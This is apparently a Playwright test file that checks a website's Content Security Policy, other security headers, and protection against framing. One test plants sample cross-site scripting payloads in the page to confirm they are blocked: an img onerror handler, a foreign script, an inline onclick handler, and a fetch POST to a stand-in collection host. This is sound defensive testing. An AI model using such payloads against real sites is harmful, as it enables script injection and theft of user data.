import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from './fixtures.ts'
import { sitePages } from './routes.ts'

/** What the browser says when the policy stops something. */
const stopped = /Content Security Policy|Trusted ?(Types?|Script)|TrustedHTML|Framing/i

test('every page and file carries the headers, and every page may run', async ({ request }) => {
  const { path: home = '/' } = sitePages[0] ?? {}
  const html = await (await request.get(home, { headers: { accept: 'text/html' } })).text()
  const [, script = ''] =
    /src="(\/assets\/[^"]+\.js)"|data-later[^>]*href="([^"]+\.js)"/.exec(html) ?? []
  for (const path of [
    ...sitePages.map((page) => page.path),
    script || '/favicon.svg',
    '/robots.txt',
  ]) {
    const headers = (await request.get(path, { headers: { accept: 'text/html' } })).headers()
    expect(headers['content-security-policy'], path).toMatch(
      /^default-src 'none'; script-src 'self' 'sha256-/,
    )
    expect(headers['content-security-policy'], path).not.toMatch(/script-src[^;]*'unsafe-/)
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
    })
  }
})

test('a script that was smuggled into the page does not run', async ({ page, allowedNoise }) => {
  allowedNoise.push(stopped)
  await page.goto('/about')
  const outcome = await page.evaluate(async () => {
    const attempts: Record<string, string> = {}
    const attempt = (name: string, act: () => void) => {
      try {
        act()
        attempts[name] = 'done'
      } catch (error) {
        attempts[name] = error instanceof Error ? error.name : 'thrown'
      }
    }
    Object.assign(window, { smuggled: [] })
    attempt('HTML from text', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="smuggled.push(1)">')
    })
    attempt('a script of another site', () => {
      const script = document.createElement('script')
      script.src = 'https://elsewhere.example/script.js'
      document.head.append(script)
    })
    const handler = document.createElement('a')
    handler.setAttribute('href', '#main')
    attempt('an inline handler', () => {
      handler.setAttribute('onclick', 'smuggled.push(2)')
      document.body.append(handler)
      handler.click()
    })
    const answer = await fetch('https://elsewhere.example/collect', { method: 'POST' }).then(
      () => 'sent',
      () => 'refused',
    )
    return { attempts, answer, ran: (window as unknown as { smuggled: number[] }).smuggled }
  })
  expect(outcome).toEqual({
    attempts: {
      'HTML from text': 'TypeError',
      'a script of another site': 'TypeError',
      'an inline handler': expect.stringMatching(/TypeError|done/),
    },
    answer: 'refused',
    ran: [],
  })
})

test('no other site can show this one in a frame', async ({ page, baseURL, allowedNoise }) => {
  allowedNoise.push(stopped, /Refused to display|refused to connect/i)
  const elsewhere = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<iframe src="${baseURL}/contact" title="Framed"></iframe>`)
  })
  await once(elsewhere.listen(0, '127.0.0.1'), 'listening')
  try {
    const answered = page.waitForResponse(`${baseURL}/contact`)
    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
    await answered
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .not.toContain(`${baseURL}/contact`)
    await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0)
  } finally {
    elsewhere.close()
    elsewhere.closeAllConnections()
  }
})
